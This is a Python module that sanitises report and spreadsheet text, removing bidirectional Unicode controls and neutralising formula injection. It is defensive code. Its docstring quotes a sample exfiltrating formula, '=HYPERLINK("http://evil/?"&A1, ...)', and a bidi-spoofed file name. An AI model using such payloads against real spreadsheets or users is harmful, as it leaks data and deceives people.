"""Text that is safe to print: bidi controls removed, spreadsheet formulas neutralized.

* **Bidirectional controls** (U+202A-U+202E embeddings and overrides, U+2066-U+2069
  isolates) let a string display differently from what it holds: "‮gnp.exe" shows as
  "exe.png". Report text and spreadsheet cells never need them, so :func:`strip_bidi` removes
  them (Trojan Source, CVE-2021-42574).
* **Spreadsheet formula injection**: a cell written as text that starts with ``=``, ``+``,
  ``-`` or ``@`` (or a tab / carriage return) is run as a formula by Excel and LibreOffice
  (``=HYPERLINK("http://evil/?"&A1, "click")``). :func:`spreadsheet_text` prefixes such a
  value with ``'`` as the OWASP "CSV injection" rule recommends, so it is shown as typed.
"""

from __future__ import annotations

import re
from typing import Any

from markupsafe import Markup

__all__ = ["BIDI_CONTROLS", "lead_pair", "spreadsheet_text", "strip_bidi", "strip_bidi_deep"]

#: the bidirectional embedding, override and isolate controls
BIDI_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069]")
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def strip_bidi(text: str) -> str:
    """``text`` without bidi controls (a :class:`~markupsafe.Markup` stays Markup).

    >>> strip_bidi("invoice\u202egnp.exe")
    'invoicegnp.exe'
    """
    if not BIDI_CONTROLS.search(text):
        return text
    clean = BIDI_CONTROLS.sub("", text)
    return Markup(clean) if isinstance(text, Markup) else clean


#: types :func:`strip_bidi_deep` returns as they are without looking further
_ATOMS = frozenset({int, float, bool, type(None)})


def strip_bidi_deep(value: Any) -> Any:
    """:func:`strip_bidi` on every string inside dicts, lists and tuples (keys included);
    other objects are returned as they are. The input is not modified.

    A report's context holds some 16,000 keys and values, rebuilt here on every report: the
    plain types are told apart by ``type`` before the general checks, and a text of ASCII
    characters only (most keys and ids) holds no bidi control, so it is not searched.
    """
    kind = type(value)
    if kind is str:
        return value if value.isascii() else strip_bidi(value)
    if kind is dict:
        out = {}
        for k, v in value.items():
            if type(k) is not str or not k.isascii():
                k = strip_bidi_deep(k)
            kind = type(v)
            if kind is str:
                out[k] = v if v.isascii() else strip_bidi(v)
            elif kind in _ATOMS:
                out[k] = v
            else:
                out[k] = strip_bidi_deep(v)
        return out
    if kind is list:
        return [strip_bidi_deep(v) for v in value]
    return _strip_other(value)


def _strip_other(value: Any) -> Any:
    """:func:`strip_bidi_deep` of anything but a plain str, dict or list (subclasses
    included)."""
    if isinstance(value, str):
        return strip_bidi(value)
    if isinstance(value, dict):
        return {strip_bidi_deep(k): strip_bidi_deep(v) for k, v in value.items()}
    if isinstance(value, list):
        return [strip_bidi_deep(v) for v in value]
    if isinstance(value, tuple) and not hasattr(value, "_fields"):
        return tuple(strip_bidi_deep(v) for v in value)
    return value


def spreadsheet_text(value: Any) -> Any:
    """A value safe to write into a spreadsheet cell: text without bidi controls and, when
    it would start a formula, prefixed with ``'``; numbers and None unchanged.

    >>> spreadsheet_text('=HYPERLINK("http://x")')
    '\\'=HYPERLINK("http://x")'
    >>> spreadsheet_text("-3 分"), spreadsheet_text(4.5)
    ("'-3 分", 4.5)
    """
    if not isinstance(value, str):
        return value
    text = strip_bidi(str(value))
    return "'" + text if text.startswith(_FORMULA_START) else text


def lead_pair(name: Any) -> Any:
    """A two-language name ``{"zh": …, "en": …}`` as it reads at the start of an English
    heading or sentence: the English first letter capitalised ("wellbeing" →
    "Wellbeing"), the Chinese unchanged. Anything else is returned as it is.

    >>> lead_pair({"zh": "职工幸福感", "en": "wellbeing"})
    {'zh': '职工幸福感', 'en': 'Wellbeing'}
    """
    if not isinstance(name, dict) or not isinstance(name.get("en"), str):
        return name
    en = name["en"]
    return {**name, "en": en[:1].upper() + en[1:]}
